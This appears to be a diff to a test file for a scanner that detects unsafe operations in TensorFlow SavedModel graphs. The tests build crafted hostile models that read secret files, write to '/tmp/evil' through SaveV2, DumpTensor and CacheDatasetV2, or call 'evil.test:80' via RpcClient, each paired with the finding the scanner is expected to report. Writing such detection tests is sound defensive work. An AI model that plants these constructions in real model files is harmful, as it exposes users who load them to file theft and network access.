@@ -70,6 +70,19 @@ def writes(meta: Any) -> None:
     call(meta, "f")
 
 
+def writes_without_a_name(meta: Any) -> None:
+    """Into the folder where it is run, as most operations do with an empty name."""
+    function = add_function(meta, "f")
+    add_text(function.node_def, "")
+    add_node(function.node_def, "SaveV2", "text:output:0")
+    call(meta, "f")
+
+
+def dumps_without_a_folder(meta: Any) -> None:
+    add_node(add_function(meta, "f").node_def, "DumpTensor", log_dir_path="", file_name="/tmp/evil")
+    call(meta, "f")
+
+
 def connects(meta: Any) -> None:
     add_node(meta.graph_def.node, "RpcClient", add_text(meta.graph_def.node, "evil.test:80").name, name="call")
     meta.signature_def["serving_default"].outputs["logits"].name = "call:0"
@@ -137,7 +150,7 @@ def packed_text(meta: Any) -> None:
     function = add_function(meta, "f")
     tensor = add_text(function.node_def, "").attr["value"].tensor
     tensor.tensor_content = bytes([len(SECRET)]) + SECRET.encode()
-    add_node(function.node_def, "ReadFile", "text:output:0")
+    add_node(function.node_def, "CacheDatasetV2", "data", "text:output:0")
     call(meta, "f")
 
 
@@ -146,7 +159,7 @@ def half_known_name(meta: Any) -> None:
     add_text(function.node_def, "")
     add_node(function.node_def, "StringJoin", "text:output:0", name="join")
     add_node(function.node_def, "Pack", "text:output:0", "join:output:0", name="names")
-    add_node(function.node_def, "ReadFile", "names:output:0")
+    add_node(function.node_def, "CacheDatasetV2", "data", "names:output:0")
     call(meta, "f")
 
 
@@ -156,7 +169,7 @@ def shadowed_operation(meta: Any) -> None:
     function = add_function(meta, "f")
     add_text(function.node_def, "")
     add_node(function.node_def, "Identity", "text:output:0", name="same")
-    add_node(function.node_def, "ReadFile", "same:output:0")
+    add_node(function.node_def, "CacheDatasetV2", "data", "same:output:0")
     call(meta, "f")
 
 
@@ -194,7 +207,7 @@ def function_in_a_dataset(meta: Any) -> None:
 def called_in_two_ways(meta: Any) -> None:
     """Once with a harmless name, and once by an operation whose inputs are not followed."""
     function = add_function(meta, "f", "name")
-    add_node(function.node_def, "ReadFile", "name")
+    add_node(function.node_def, "CacheDatasetV2", "data", "name")
     call(meta, "f", add_text(meta.graph_def.node, "").name)
     branch = add_node(meta.graph_def.node, "StatelessIf", "x", "y", name="if")
     branch.attr["then_branch"].func.name = "f"
@@ -221,6 +234,8 @@ READS = "reads files that are not its own: "
 PROGRAMS: dict[Callable[[Any], None], str] = {
     reads: f"{READS}ReadFile {SECRET}",
     writes: "writes files: WriteFile /tmp/evil",
+    writes_without_a_name: "writes files: SaveV2",
+    dumps_without_a_folder: "writes files: DumpTensor",
     connects: "uses the network: RpcClient evil.test:80",
     reads_when_initialized: f"{READS}ReadFile {SECRET}",
     reads_in_a_local_variable: f"{READS}ReadFile {SECRET}",
@@ -232,15 +247,15 @@ PROGRAMS: dict[Callable[[Any], None], str] = {
     asset_elsewhere: f"{READS}assets//etc/hostname",
     constant_called_an_asset: f"{READS}ReadFile {SECRET}",
     two_lists_of_assets: f"{READS}ReadFile {SECRET}",
-    packed_text: f"{READS}ReadFile",
-    half_known_name: f"{READS}ReadFile",
-    shadowed_operation: f"{READS}ReadFile",
+    packed_text: "writes files: CacheDatasetV2",
+    half_known_name: "writes files: CacheDatasetV2",
+    shadowed_operation: "writes files: CacheDatasetV2",
     function_handed_on: f"{READS}ReadFile {SECRET}",
     attribute_handed_on: f"{READS}ImmutableConst",
     another_of_its_interface: f"{READS}ReadFile {SECRET}",
     function_of_an_object: f"{READS}ReadFile {SECRET}",
     function_in_a_dataset: f"{READS}ReadFile {SECRET}",
-    called_in_two_ways: f"{READS}ReadFile",
+    called_in_two_ways: "writes files: CacheDatasetV2",
     hidden_graph: "runs code that its graph does not show: DatasetFromGraph",
     asks_a_database: f"{READS}SqlDataset",
     calls_python: "calls Python functions: EagerPyFunc in f",
